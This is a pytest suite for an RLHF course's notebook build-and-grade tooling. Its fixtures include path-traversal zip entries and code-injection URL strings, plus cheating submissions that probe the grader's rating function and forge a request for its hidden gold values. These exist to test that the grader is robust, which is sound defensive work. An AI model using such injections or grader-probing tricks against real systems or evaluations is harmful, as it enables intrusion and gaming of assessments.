"""Graded assignments: build every master, grade solutions, blank and wrong submissions, and check the student side.

One build and one grading run (module-scoped) serve all tests: grading executes each notebook in a kernel.
"""

import ast
import contextlib
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import nbformat
import pandas as pd
import pytest

pytest.importorskip("otter", reason="the assignment tools need otter-grader (pip install 'rlhf-lab[instructor]')")

from rlhf_lab.cli import main
from rlhf_lab.teach.assignments import default_source, find_masters, read_master
from rlhf_lab.teach.gradebook import find_submissions, grade, shared_ids
from rlhf_lab.teach import isolation
from rlhf_lab.teach.grading import extract_data_files, grade_submission, load_manifest
from rlhf_lab.teach.otter_assign import failing_questions

ASSIGNMENTS = ("reward_model", "ppo_math", "overoptimisation", "logprobs_dpo", "gold_gain")
# A classic bug per assignment that the public tests miss and one hidden test catches: (old, new, failing test, points)
BUGS = {
    "reward_model": ("-torch.nn.functional.logsigmoid(r_chosen - r_rejected).mean()",
                     "-torch.log(torch.sigmoid(r_chosen - r_rejected)).mean()",
                     "q1_bradley_terry_loss/test_loss_is_finite_for_huge_reward_gaps (hidden)", 1.0),
    "ppo_math": ("values = torch.where(valid, values, 0.0)", "values = values",
                 "q3_gae/test_gae_matches_a_loop_on_random_padded_inputs (hidden)", 2.0),
    "overoptimisation": ('after = low_beta[low_beta["update"] > peak_update]', "after = low_beta",
                         "q4_proxy_gold_correlation/test_correlation_after_the_peak (hidden)", 1.5),
    "logprobs_dpo": ("-torch.nn.functional.logsigmoid(beta * margin).mean()",
                     "-torch.log(torch.sigmoid(beta * margin)).mean()",
                     "q2_dpo_loss/test_dpo_loss_is_finite_for_huge_margins (hidden)", 1.0),
    "gold_gain": ("return torch.softmax(torch.log(reference) + rewards / beta, dim=-1)",
                  "weights = reference * torch.exp(rewards / beta)\n    return weights / weights.sum(-1, keepdim=True)",
                  "q2_tilted_policy/test_tilted_policy_is_finite_for_tiny_beta (hidden)", 1.0),
}
FULL_MARKS = {"reward_model": 10.0, "ppo_math": 12.0, "overoptimisation": 10.0, "logprobs_dpo": 8.0, "gold_gain": 10.0}
# Submissions of assignment 5 that keep the master's answers to questions 1-2 (5 points) and change improve_policy,
# the question graded on its outcome: each must get none of its 5 points
OUTCOME_CHEATS = {
    "over_budget": """
honest_improve_policy = improve_policy
def improve_policy(reference, rate, budget, kl_bound):
    policy = honest_improve_policy(reference, rate, budget, kl_bound)
    for _ in range(20):  # more ratings than allowed, refusals ignored
        try:
            rate(0, 0)
        except RuntimeError:
            pass
    return policy
""",
    "read_gold": """
honest_improve_policy = improve_policy
def improve_policy(reference, rate, budget, kl_bound):
    for name in ("__self__", "func", "_gold", "gold", "__closure__", "__globals__"):
        try:
            getattr(rate, name)
        except AttributeError:
            pass
    try:  # forge a request for the task's gold on the grader's pipe
        rate.channel.ask({"id": rate.wire_callback_id, "op": "attr", "name": "_gold"})
    except Exception:
        pass
    return honest_improve_policy(reference, rate, budget, kl_bound)
""",
    "do_nothing": """
def improve_policy(reference, rate, budget, kl_bound):
    return reference.clone()
""",
}


OTHER_ID = "s7654321"
GOLD_MODEL = """
import torch
def _gold_model(model):
    with torch.no_grad():
        model.linear.weight.copy_(torch.tensor([[1.0, 1.0, -2.0, 1.0, 0.5, 0.3]]))
    return model
"""


def _mkdir(path: Path) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    return path


def _instructor_proxy_gain() -> float:
    from rlhf_lab.teach.assignment_data import overoptimisation_metrics
    run = overoptimisation_metrics("instructor-0").query("kl_coef == 0.01").set_index("update")
    return float(run.iloc[-1]["objective/scores"] - run.loc[run["gold_reward"].idxmax(), "objective/scores"])


def _wrong_copy(solution: Path, target: Path, old: str, new: str) -> None:
    nb = nbformat.read(solution, as_version=4)
    hits = [cell for cell in nb.cells if old in cell.source]
    assert len(hits) == 1, f"the bug to plant ({old!r}) is not in exactly one cell of {solution}"
    hits[0].source = hits[0].source.replace(old, new)
    nbformat.write(nb, target)


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    out = tmp_path_factory.mktemp("build")
    assert main(["assignments", "build", "--out", str(out), "--no-check"]) == 0
    return out


@pytest.fixture(scope="module")
def scores(built, tmp_path_factory) -> pd.DataFrame:
    """Every assignment's solutions, blank student version and a wrong submission, graded in one run."""
    subs = tmp_path_factory.mktemp("submissions")
    for name, (old, new, _, _) in BUGS.items():
        (subs / "solutions").mkdir(exist_ok=True)
        (subs / "blank").mkdir(exist_ok=True)
        shutil.copy(built / name / "autograder" / f"{name}.ipynb", subs / "solutions")
        shutil.copy(built / name / "student" / f"{name}.ipynb", subs / "blank")
        wrong = subs / "wrong" / name
        wrong.mkdir(parents=True)
        _wrong_copy(built / name / "autograder" / f"{name}.ipynb", wrong / f"{name}.ipynb", old, new)
    # per-student data: the solutions under another id still get full marks; numbers copied from the
    # instructor's id do not; a reward model with the lab's gold weights typed in fails the reward-model question
    for name in ("reward_model", "overoptimisation", "gold_gain"):
        _wrong_copy(built / name / "autograder" / f"{name}.ipynb", _mkdir(subs / "other_id") / f"{name}.ipynb",
                    '"instructor-0"', f'"{OTHER_ID}"')
    for cheat, code in OUTCOME_CHEATS.items():
        nb = nbformat.read(built / "gold_gain" / "autograder" / "gold_gain.ipynb", as_version=4)
        nb.cells.append(nbformat.v4.new_code_cell(code))
        nbformat.write(nb, _mkdir(subs / "outcome" / cheat) / "gold_gain.ipynb")
    copied = _mkdir(subs / "copied") / "overoptimisation.ipynb"
    _wrong_copy(built / "overoptimisation" / "autograder" / "overoptimisation.ipynb", copied, '"instructor-0"',
                f'"{OTHER_ID}"')
    _wrong_copy(copied, copied, 'proxy_gain = float(last_row["objective/scores"] - peak_row["objective/scores"])',
                f"proxy_gain = {_instructor_proxy_gain()}")
    _wrong_copy(built / "reward_model" / "autograder" / "reward_model.ipynb",
                _mkdir(subs / "hard_coded") / "reward_model.ipynb", "    model = LinearReward(x_chosen.shape[1])",
                "    model = LinearReward(x_chosen.shape[1])\n    return _gold_model(model)\n"
                "    # the lab's gold weights, typed in: no training\n")
    nb = nbformat.read(subs / "hard_coded" / "reward_model.ipynb", as_version=4)
    nb.cells.insert(1, nbformat.v4.new_code_cell(GOLD_MODEL))
    nbformat.write(nb, subs / "hard_coded" / "reward_model.ipynb")
    # one wrong submission arrives as the zip that the export cell makes
    with zipfile.ZipFile(subs / "wrong" / "ppo_math" / "ppo_math_export.zip", "w") as zf:
        zf.write(subs / "wrong" / "ppo_math" / "ppo_math.ipynb", "ppo_math.ipynb")
    (subs / "wrong" / "ppo_math" / "ppo_math.ipynb").unlink()
    csv = subs / "scores.csv"
    with contextlib.redirect_stdout(io.StringIO()) as printed:
        assert main(["assignments", "grade", str(subs), "--build", str(built), "--out", str(csv), "--jobs", "2"]) == 0
    (subs / "grade_output.txt").write_text(printed.getvalue())
    return pd.read_csv(csv, keep_default_na=False).set_index("submission")


@pytest.fixture(scope="module")
def graded_folder(scores, tmp_path_factory) -> Path:
    """The folder `grade` wrote scores.csv, scores_lms.csv and feedback/ into."""
    return next(p for p in tmp_path_factory.getbasetemp().glob("submissions*") if (p / "scores.csv").is_file())


def test_build_writes_student_and_grader_bundles_for_every_master(built):
    manifest = load_manifest(built)
    assert tuple(manifest) == ASSIGNMENTS
    for name in ASSIGNMENTS:
        assert (built / name / "student" / f"{name}.ipynb").is_file()
        assert (built / name / f"{name}-student.zip").is_file()
        assert zipfile.ZipFile(built / name / "autograder" / "autograder.zip").testzip() is None
        assert sum(q["points"] for q in manifest[name]["questions"] if not q["manual"]) == FULL_MARKS[name]
    assert [q["name"] for q in manifest["overoptimisation"]["questions"] if q["manual"]] == ["q5_what_went_wrong"]


def test_a_build_that_fails_midway_leaves_the_previous_build_whole(built, tmp_path, monkeypatch):
    """The bundles' sha256 in manifest.json must match the bundles: a rebuild that stops at its second assignment
    replaces nothing (the first is built aside and dropped), and leaves no hidden folder behind."""
    from rlhf_lab.teach import assignments

    previous = tmp_path / "build"
    shutil.copytree(built, previous)
    before = {p.relative_to(previous): p.read_bytes() for p in previous.rglob("*") if p.is_file()}
    real, calls = assignments.shutil.make_archive, []

    def second_fails(base_name, *args, **kwargs):  # each assignment's student zip, the last step of its build
        calls.append(base_name)
        if len(calls) == 2:
            raise ValueError(f"could not write {base_name}.zip: a test's failure")
        return real(base_name, *args, **kwargs)
    monkeypatch.setattr(assignments.shutil, "make_archive", second_fails)
    with pytest.raises(ValueError, match="a test's failure"):
        assignments.build(out=previous, check=False)
    assert len(calls) == 2
    assert {p.relative_to(previous): p.read_bytes() for p in previous.rglob("*") if p.is_file()} == before


def test_a_bundles_data_files_never_land_outside_the_graders_folder(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for name in ("files/data/prompts.csv", "files//tmp/escaped_abs.txt", "files/../escaped_up.txt",
                     "files/data/../../escaped_mixed.txt", "tests/q1.py", "files/"):
            zf.writestr(name, "x")
    folder = tmp_path / "grader"
    folder.mkdir()
    with zipfile.ZipFile(buffer) as zf:
        written = extract_data_files(zf, folder)
    assert written == [(folder / "data" / "prompts.csv").resolve()] and (folder / "data" / "prompts.csv").is_file()
    assert not Path("/tmp/escaped_abs.txt").exists() and not list(tmp_path.glob("escaped*"))


def test_master_solutions_get_full_marks(scores):
    for name, full in FULL_MARKS.items():
        row = scores.loc[f"solutions/{name}.ipynb"]
        assert (row["assignment"], row["score"], row["possible"], row["error"]) == (name, full, full, "")
        assert row["failed_tests"] == ""
    assert scores.loc["solutions/overoptimisation.ipynb", "q5_what_went_wrong"] == "", "left for hand grading"
    assert scores.loc["solutions/overoptimisation.ipynb", "manual_possible"] == 4.0


def test_blank_student_versions_score_zero(scores):
    for name, full in FULL_MARKS.items():
        row = scores.loc[f"blank/{name}.ipynb"]
        assert (row["score"], row["possible"], row["error"]) == (0.0, full, "")
        assert "(hidden)" in row["failed_tests"]


def test_wrong_submissions_get_partial_marks_and_name_the_failing_hidden_test(scores):
    for name, (_, _, failing, lost) in BUGS.items():
        key = f"wrong/{name}/{name}" + ("_export.zip" if name == "ppo_math" else ".ipynb")
        row = scores.loc[key]
        assert row["score"] == FULL_MARKS[name] - lost, f"{name}: {row.to_dict()}"
        assert row["failed_tests"] == failing
    assert float(scores.loc["wrong/ppo_math/ppo_math_export.zip", "q3_gae"]) == 1.0  # public passed, hidden failed


def test_each_student_gets_their_own_numbers_and_copied_or_typed_in_answers_fail(scores):
    for name, full in (("reward_model", 10.0), ("overoptimisation", 10.0), ("gold_gain", 10.0)):
        row = scores.loc[f"other_id/{name}.ipynb"]
        assert (row["student_id"], row["score"], row["error"]) == (OTHER_ID, full, ""), row.to_dict()
    copied = scores.loc["copied/overoptimisation.ipynb"]
    assert float(copied["q2_after_the_peak"]) == 1.0, "the public test passes, the hidden one recomputes from the id"
    assert copied["failed_tests"] == "q2_after_the_peak/test_after_peak_values (hidden)"
    typed_in = scores.loc["hard_coded/reward_model.ipynb"]
    points = [float(typed_in[q]) for q in ("q1_bradley_terry_loss", "q2_pairwise_accuracy", "q3_reward_model")]
    assert points == [4.0, 2.0, 0.0], typed_in.to_dict()


def test_the_outcome_question_pays_only_for_gold_gained_within_the_budget(scores):
    master, blank = scores.loc["solutions/gold_gain.ipynb"], scores.loc["blank/gold_gain.ipynb"]
    assert (float(master["q3_improve_policy"]), master["manual_possible"], master["q4_budget_and_beta"]) == (5.0, 3, "")
    assert (float(blank["q3_improve_policy"]), blank["score"]) == (0.0, 0.0)
    outcome_tests = ["q3_improve_policy/test_gold_gain_beats_the_reference (hidden)",
                     "q3_improve_policy/test_gold_gain_reaches_a_third_of_the_best (hidden)"]
    public = "q3_improve_policy/test_improve_policy_returns_a_policy_within_the_budget"
    for cheat, failed in (("over_budget", [public, *outcome_tests]), ("read_gold", outcome_tests),
                          ("do_nothing", outcome_tests)):
        row = scores.loc[f"outcome/{cheat}/gold_gain.ipynb"]
        points = [float(row[q]) for q in ("q1_kl_divergence", "q2_tilted_policy", "q3_improve_policy")]
        assert (points, row["score"], row["error"]) == ([2.0, 3.0, 0.0], 5.0, ""), f"{cheat}: {row.to_dict()}"
        assert row["failed_tests"] == "; ".join(failed), f"{cheat}: {row['failed_tests']}"


def test_numbers_differ_between_students():
    from rlhf_lab.teach.assignment_data import overoptimisation_metrics, preference_pairs, student_utility
    a, b = overoptimisation_metrics("instructor-0"), overoptimisation_metrics(OTHER_ID)
    assert (a["gold_reward"] - b["gold_reward"]).abs().max() > 0.05
    assert overoptimisation_metrics(OTHER_ID).equals(b), "the same id gives the same data"
    assert (student_utility("instructor-0") - student_utility(OTHER_ID)).abs().max() > 0.3
    assert not preference_pairs("instructor-0").equals(preference_pairs(OTHER_ID))
    with pytest.raises(ValueError, match="set it to your student id"):
        preference_pairs(Ellipsis)


def test_scores_carry_the_student_id_into_an_lms_csv_and_feedback_files(scores, graded_folder):
    assert scores.loc["solutions/ppo_math.ipynb", "student_id"] == "instructor-0"
    assert scores.loc["blank/ppo_math.ipynb", "student_id"] == ""
    lms = pd.read_csv(graded_folder / "scores_lms.csv", keep_default_na=False)
    rows = lms[(lms["student_id"] == OTHER_ID) & (lms["assignment"] == "reward_model")]
    assert rows["total"].astype(float).tolist() == [10.0] and rows["q3_reward_model"].astype(float).tolist() == [4.0]
    row = lms[(lms["student_id"] == "") & (lms["assignment"] == "overoptimisation")]
    assert row["total"].astype(float).tolist() == [0.0] and set(row["q5_what_went_wrong"]) == {""}, "blank: no id"
    feedback = (graded_folder / "feedback" / "ppo_math" / "instructor-0__wrong_ppo_math_ppo_math_export.zip.md")
    text = feedback.read_text()
    assert "Autograded: 10 of 12 points." in text
    assert "- q3_gae: 1 of 3\n    - failed: gae matches a loop on random padded inputs (hidden test)" in text
    blank = (graded_folder / "feedback" / "ppo_math" / "blank_ppo_math.ipynb.md").read_text()
    assert "failed: student id is filled in (student_id is " in blank and "set it to your student id" in blank


def test_submissions_that_share_a_student_id_are_flagged_and_kept_out_of_the_lms_csv(scores, graded_folder):
    # the copied notebook and the honest one both say OTHER_ID; the solutions and the wrong ones say instructor-0
    assert scores.loc["other_id/overoptimisation.ipynb", "same_id_as"] == "copied/overoptimisation.ipynb"
    assert scores.loc["copied/overoptimisation.ipynb", "same_id_as"] == "other_id/overoptimisation.ipynb"
    assert scores.loc["solutions/ppo_math.ipynb", "same_id_as"] == "wrong/ppo_math/ppo_math_export.zip"
    assert scores.loc["solutions/reward_model.ipynb", "same_id_as"] == \
        "hard_coded/reward_model.ipynb; wrong/reward_model/reward_model.ipynb"
    assert scores.loc["other_id/reward_model.ipynb", "same_id_as"] == "", "one id, one submission of that assignment"
    assert set(scores.loc[scores["student_id"] == "", "same_id_as"]) == {""}, "a missing id is no one's"
    lms = pd.read_csv(graded_folder / "scores_lms.csv", keep_default_na=False)
    assert lms[lms["student_id"] == "instructor-0"].empty
    assert lms[lms["assignment"] == "overoptimisation"]["student_id"].tolist() == [""], "only the blank one is left"
    printed = (graded_folder / "grade_output.txt").read_text().splitlines()
    assert f"warning: student id '{OTHER_ID}' is in 2 overoptimisation submissions (copied/overoptimisation.ipynb, " \
           "other_id/overoptimisation.ipynb): none of them is in the LMS file; decide which counts (column " \
           "same_id_as of the score table)" in printed
    assert sum(line.startswith("warning: student id ") for line in printed) == len(ASSIGNMENTS) + 1
    assert any(line.startswith("  other_id/overoptimisation.ipynb") and line.endswith(
        "(same student id as copied/overoptimisation.ipynb)") for line in printed)


def test_shared_ids_are_compared_stripped_and_case_folded_within_one_assignment():
    table = pd.DataFrame({"submission": ["a.ipynb", "b.ipynb", "c.ipynb", "d.ipynb", "e.ipynb", "f.zip"],
                          "student_id": ["S123", " s123 ", "s123", "", "", None],
                          "assignment": ["ppo_math", "ppo_math", "reward_model", "ppo_math", "ppo_math", "ppo_math"]})
    assert shared_ids(table) == {("S123", "ppo_math"): ["a.ipynb", "b.ipynb"]}
    assert shared_ids(table.iloc[2:]) == {}


def test_grading_one_submission_takes_under_a_minute(scores):
    assert scores["seconds"].astype(float).max() < 60


def _solution_lines(master: Path) -> set[str]:
    """Every substantial line of solution in a master notebook (code blocks, `# SOLUTION` lines, model answers)."""
    lines, in_block = set(), False
    for cell in nbformat.read(master, as_version=4).cells:
        if cell.cell_type == "raw":
            in_block = cell.source.strip().upper().startswith("# BEGIN SOLUTION") or (
                in_block and not cell.source.strip().upper().startswith("# END SOLUTION"))
            continue
        inside = False
        for line in cell.source.splitlines():
            if cell.cell_type == "markdown" and in_block:
                lines.add(line.strip())
            elif re.match(r"\s*# (BEGIN|END) SOLUTION", line):
                inside = line.strip().startswith("# BEGIN")
            elif inside or line.rstrip().endswith("# SOLUTION"):
                lines.add(line.replace("# SOLUTION", "").strip())
    return {line for line in lines if len(line) >= 12}


def _hidden_tests(tests_dir: Path) -> set[str]:
    names = set()
    for path in tests_dir.glob("*.py"):
        for node in ast.parse(path.read_text()).body:
            if isinstance(node, ast.FunctionDef) and "hidden=True" in ast.unparse(node.decorator_list[0]):
                names.add(node.name)
    return names


def _student_texts(built: Path, name: str) -> dict[str, str]:
    texts = {str(p): p.read_text() for p in (built / name / "student").rglob("*") if p.suffix in (".ipynb", ".py")}
    with zipfile.ZipFile(built / name / f"{name}-student.zip") as zf:
        texts.update({f"zip:{n}": zf.read(n).decode() for n in zf.namelist() if n.endswith((".ipynb", ".py"))})
    return texts


@pytest.mark.parametrize("name", ASSIGNMENTS)
def test_student_version_has_no_solution_code_and_no_hidden_test(built, name):
    master = next(a.master for a in find_masters() if a.name == name)
    solutions, hidden = _solution_lines(master), _hidden_tests(built / name / "autograder" / "tests")
    assert len(solutions) >= 3 and len(hidden) >= 3, "the check must have something to look for"
    texts = _student_texts(built, name)
    student_notebook = json.loads(texts[str(built / name / "student" / f"{name}.ipynb")])
    assert student_notebook["metadata"]["otter"]["assignment_name"] == name
    for where, text in texts.items():
        leaked = [line for line in solutions if line in text]
        assert not leaked, f"solution lines in {where}: {leaked[:3]}"
        assert not [t for t in hidden if t in text], f"hidden tests in {where}"
        assert "hidden=True" not in text and "BEGIN SOLUTION" not in text
    public = {p.stem for p in (built / name / "student" / "tests").glob("*.py")}
    assert public == {q.name for q in read_master(master).questions if not q.manual}, "every question has public tests"


def test_the_bundle_holds_a_grader_secret_that_no_notebook_sees_or_shadows(built):
    import torch

    from rlhf_lab.teach.assignment_data import secret_taste
    from rlhf_lab.teach.grading import NotebookValues

    secrets = set()
    for name in ASSIGNMENTS:
        with zipfile.ZipFile(built / name / "autograder" / "autograder.zip") as zf:
            secrets.add(zf.read("grader_secret.txt").decode())
        assert not any(s in text for s in secrets for text in _student_texts(built, name).values())
    assert len(secrets) == 1 and len(secrets.pop()) == 32, "one random secret per build"

    class Link:  # a notebook that defines every name, grader_secret included
        def request(self, message):
            return {"value": "from the notebook"}

    env = NotebookValues(Link(), {"grader_secret": "s3cret"})
    assert (env.get("grader_secret"), env.get("student_id")) == ("s3cret", "from the notebook")
    assert not torch.equal(secret_taste("s3cret", OTHER_ID), secret_taste(None, OTHER_ID))


def test_hand_graded_questions_have_a_rubric_in_the_master_and_the_bundle(built, tmp_path):
    master = next(a for a in find_masters() if a.name == "overoptimisation")
    (q5,) = [q for q in master.questions if q.manual]
    assert len(q5.rubric) == 4 and sum(points for points, _ in q5.rubric) == q5.points == 4.0
    with zipfile.ZipFile(built / "overoptimisation" / "autograder" / "autograder.zip") as zf:
        in_bundle = zf.read("rubric.md").decode()
    assert (built / "overoptimisation" / "autograder" / "rubric.md").read_text() == in_bundle
    assert all(f"- [1] {text}" in in_bundle for _, text in q5.rubric)
    assert "Rubric" not in (built / "overoptimisation" / "student" / "overoptimisation.ipynb").read_text()
    nb = nbformat.read(master.master, as_version=4)
    for cell in nb.cells:
        cell.source = cell.source.split("**Rubric")[0]
    nbformat.write(nb, tmp_path / "no_rubric.ipynb")
    with pytest.raises(ValueError, match="q5_what_went_wrong .4 points. needs a rubric"):
        read_master(tmp_path / "no_rubric.ipynb")


def test_masters_ship_with_the_package_and_list_their_points(capsys):
    assert [a.name for a in find_masters()] == list(ASSIGNMENTS)
    assert (default_source() / "README.md").is_file()
    assert main(["assignments", "list"]) == 0
    out = capsys.readouterr().out
    assert "ppo_math             12 autograded points" in out
    assert "overoptimisation     10 autograded points + 4 by hand" in out


def test_bad_input_gives_errors_that_say_how_to_fix_it(tmp_path, capsys, monkeypatch):
    assert main(["assignments", "grade", str(tmp_path / "missing"), "--build", str(tmp_path)]) == 2
    assert "run `rlhf-lab assignments build --out" in capsys.readouterr().err
    with pytest.raises(FileNotFoundError, match="does not exist"):
        find_submissions(tmp_path / "missing")
    with pytest.raises(ValueError, match="no notebooks"):
        find_submissions(tmp_path)
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1")])
    nbformat.write(nb, tmp_path / "plain.ipynb")
    with pytest.raises(ValueError, match="ASSIGNMENT CONFIG"):
        read_master(tmp_path / "plain.ipynb")
    (tmp_path / "manifest.json").write_text(json.dumps({"ppo_math": {}}))
    with pytest.raises(ValueError, match="unknown assignment 'nope'"):
        grade(tmp_path, tmp_path, assignment="nope")
    with pytest.raises(ValueError, match="predates bundle hashes: rebuild it"):
        grade(tmp_path, tmp_path)
    with pytest.raises(SystemExit, match="2"):  # argparse: one error line, exit 2
        main(["assignments", "grade", str(tmp_path), "--build", str(tmp_path), "--isolation", "sideways"])
    monkeypatch.setattr(isolation, "namespace_available", lambda: False)
    assert main(["assignments", "grade", str(tmp_path), "--build", str(tmp_path), "--isolation", "namespace"]) == 2
    err = capsys.readouterr().err
    assert "--isolation namespace needs root" in err and "Traceback" not in err
    for text in ('{"ppo_math": ', "[1, 2]", "\udcff"):  # damaged, another shape, not text
        (tmp_path / "manifest.json").write_bytes(text.encode("utf-8", "surrogateescape"))
        assert main(["assignments", "grade", str(tmp_path), "--build", str(tmp_path)]) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and f"{tmp_path / 'manifest.json'}" in err and "rebuild" in err, err


def test_a_bundle_that_changed_since_the_build_is_refused_before_any_student_code_runs(built, tmp_path):
    bundle = tmp_path / "autograder.zip"
    shutil.copy(built / "ppo_math" / "autograder" / "autograder.zip", bundle)
    expected = load_manifest(built)["ppo_math"]["sha256"]
    with zipfile.ZipFile(bundle, "a") as zf:
        zf.writestr("tests/q9_poison.py", "name = 'q9_poison'")
    result = grade_submission({"bundle": str(bundle), "sha256": expected, "submission": "unused", "files": [],
                               "mode": "process", "timeout": 10})
    assert result == {"error": f"the grader bundle {bundle} changed since it was built (SHA-256 differs): rebuild it "
                               "with `rlhf-lab assignments build` and grade again"}


def test_missing_otter_gives_the_install_hint_not_a_traceback(tmp_path, capsys, monkeypatch):
    import sys

    monkeypatch.setitem(sys.modules, "otter.assign", None)  # makes `from otter.assign import ...` raise ImportError
    assert main(["assignments", "build", "--out", str(tmp_path / "out"), "--no-check"]) == 2
    err = capsys.readouterr().err
    assert "pip install 'rlhf-lab[instructor]'" in err and "Traceback" not in err


def _damaged_master(tmp_path: Path, header: str | None = None, data: bytes | None = None) -> Path:
    """A --source folder holding one master: ppo_math's with its first question header replaced (or given bytes)."""
    master = _mkdir(tmp_path / "source" / "ppo_math") / "ppo_math.ipynb"
    if data is not None:
        master.write_bytes(data)
        return master
    nb = nbformat.read(default_source() / "02_ppo_math" / "ppo_math.ipynb", as_version=4)
    cells = [i for i, c in enumerate(nb.cells) if c.cell_type == "raw" and c.source.startswith("# BEGIN QUESTION")]
    nb.cells[cells[0]].source = header
    nbformat.write(nb, master)
    return master


@pytest.mark.parametrize("header, data, message", [
    ("# BEGIN QUESTION\npoints: 2", None, "the question has no 'name': give it 'name: ...'"),
    ("# BEGIN QUESTION\nname: q1\npoints: [2\n  manual: {", None, "('# BEGIN QUESTION'): its YAML does not parse"),
    ("# BEGIN QUESTION\n- name: q1\n- points: 2", None, "its YAML is a list, not a mapping"),
    ("# BEGIN QUESTION\nname: q1\npoints: lots", None, "question q1 has 'points: lots': give its total points as"),
    ("# BEGIN QUESTION\nname: q1\npoints: -1", None, "question q1 has 'points: -1'"),
    ("# BEGIN QUESTION\nname: ../../q1\npoints: 1", None, "the question has name '../../q1'"),
    ("# BEGIN QUESTION\nname: q3_gae\npoints: 1", None, "question q3_gae is named twice (also cell"),
    (None, b"{not json", "is not JSON: restore the master notebook"),
    (None, bytes(range(256)), "is not a text file (not UTF-8)"),
    (None, b"[]", "is not a Jupyter notebook"),
])
@pytest.mark.parametrize("command", ["list", "build"])
def test_a_damaged_master_is_one_line_naming_the_notebook_and_the_fix(tmp_path, capsys, header, data, message,
                                                                      command):
    master = _damaged_master(tmp_path, header, data)
    out = ["--out", str(tmp_path / "build"), "--no-check"] if command == "build" else []
    assert main(["assignments", command, "--source", str(tmp_path / "source"), *out]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err, err
    assert err.startswith(f"rlhf-lab assignments: error: {master}") and message in err, err
    if header is not None:  # the question's cell is named
        assert re.search(r"ppo_math\.ipynb, cell \d+", err), err
    assert not (tmp_path / "build").exists()


@pytest.mark.parametrize("option, value, message", [
    ("--timeout", "0", "'0' is not a time limit: give the seconds allowed per submission, a number above 0"),
    ("--timeout", "-5", "'-5' is not a time limit"),
    ("--timeout", "nan", "'nan' is not a time limit"),
    ("--timeout", "inf", "'inf' is not a time limit"),
    ("--jobs", "0", "'0' is not a number of submissions to grade at once: give a whole number >= 1"),
    ("--jobs", "-1", "'-1' is not a number of submissions to grade at once"),
    ("--memory-mb", "-1", "'-1' is not a memory limit: give the MB each notebook may use, a whole number from 0"),
    ("--memory-mb", str(2**60), "is not a memory limit"),
])
def test_grade_refuses_limits_out_of_range_before_grading(tmp_path, capsys, option, value, message):
    with pytest.raises(SystemExit) as exit_:
        main(["assignments", "grade", str(tmp_path), "--build", str(tmp_path), "--out", str(tmp_path / "s.csv"),
              option, value])
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    assert len(err.splitlines()) == 1  # the one error line, without argparse's usage block
    last = err.splitlines()[-1]
    assert last.startswith(f"rlhf-lab assignments grade: error: argument {option}: ") and message in last, err
    assert "Traceback" not in err and not (tmp_path / "s.csv").exists()


@pytest.mark.parametrize("limits, message", [
    ({"timeout": 0}, "timeout: 0 is not a time limit: give the seconds allowed per submission"),
    ({"timeout": float("nan")}, "timeout: nan is not a time limit"),
    ({"timeout": "60"}, "timeout: '60' is not a time limit"),
    ({"jobs": 0}, "jobs: 0 is not a number of submissions to grade at once: give a whole number >= 1"),
    ({"jobs": 2.5}, "jobs: 2.5 is not a number of submissions"),
    ({"memory_mb": -1}, "memory_mb: -1 is not a memory limit: give the MB each notebook may use"),
    ({"memory_mb": True}, "memory_mb: True is not a memory limit"),
])
def test_grade_from_python_refuses_limits_out_of_range_before_reading_anything(tmp_path, limits, message):
    with pytest.raises(ValueError) as refusal:  # the build folder is empty: the limits are checked first
        grade(tmp_path, tmp_path / "no build", out=tmp_path / "s.csv", **limits)
    assert str(refusal.value).startswith(message), refusal.value
    assert sorted(tmp_path.iterdir()) == []


def _colab_cell_url(student_notebook: Path) -> str:
    """The URL the Colab cell fetches, read from the cell's code: the only argument literal of urlretrieve's first."""
    tree = ast.parse(nbformat.read(student_notebook, as_version=4).cells[0].source)
    calls = {ast.unparse(n.func): n for n in ast.walk(tree) if isinstance(n, ast.Call)}
    assert sorted(calls) == ["subprocess.run", "urllib.request.urlretrieve", "zipfile.ZipFile",
                             "zipfile.ZipFile('assignment_files.zip').extractall"], ast.unparse(tree)
    (url, target) = calls["urllib.request.urlretrieve"].args
    assert isinstance(url, ast.Constant) and target.value == "assignment_files.zip"
    return url.value


def test_a_solution_that_fails_its_tests_is_one_line_naming_the_master_the_questions_and_the_log(tmp_path, capsys):
    source = tmp_path / "source" / "02_ppo_math"
    shutil.copytree(default_source() / "02_ppo_math", source)
    master = source / "ppo_math.ipynb"
    good, bad, _, _ = BUGS["ppo_math"]
    assert good in master.read_text()
    master.write_text(master.read_text().replace(good, bad))
    out = tmp_path / "build"
    assert main(["assignments", "build", "--source", str(tmp_path / "source"), "--out", str(out)]) == 2
    log = out / "ppo_math-otter.log"
    assert capsys.readouterr().err == f"rlhf-lab assignments: error: otter assign failed on {master}: the tests of " \
        f"q3_gae fail against the solutions; otter's report: {log}\n"  # otter's kernels said nothing on stderr
    report = log.read_text()
    assert report.startswith(f"otter assign {master}") and "q3_gae - " in report and "Test case failed" in report
    assert sorted(p.name for p in out.iterdir()) == [log.name]  # no half build beside it


def test_failing_questions_reads_otters_report():
    report = ("Some autograder tests failed in the autograder notebook:\n    q0 results: All test cases passed!\n\n"
              "    q1_mean results:\n        q1_mean - 1 result:\n            ❌ Test case failed\n"
              "        q1_mean - 2 result:\n            ❌ Test case failed\n    q2 results:\n"
              "        q2 - 1 result:\n            ✅ Test case passed\n        q4_loss - 3 result:\n"
              "            ❌ Test case failed\n")
    assert failing_questions(report) == ["q1_mean", "q4_loss"]
    assert failing_questions("NotebookError: a cell raised") == []


@pytest.mark.parametrize("url", ['x"); import os; os.system("id', 'https://example.org/a"); import os; ("',
                                 "https://example.org/a b", "https://example.org/\x01", "ftp://example.org/rlhf",
                                 "https://", "javascript:alert(1)", ""])
def test_a_colab_url_that_is_not_a_plain_http_url_is_refused_before_building(tmp_path, capsys, url):
    shutil.copytree(default_source() / "02_ppo_math", tmp_path / "source" / "02_ppo_math")
    assert main(["assignments", "build", "--source", str(tmp_path / "source"), "--out", str(tmp_path / "build"),
                 "--no-check", "--colab-url", url]) == 2
    err = capsys.readouterr().err
    assert err == f"rlhf-lab assignments: error: --colab-url {url!r} is not an http(s) URL without quotes, spaces " \
                  "or control characters: give the address where you will publish the student zips, e.g. " \
                  "https://example.org/rlhf\n"
    assert not (tmp_path / "build").exists()


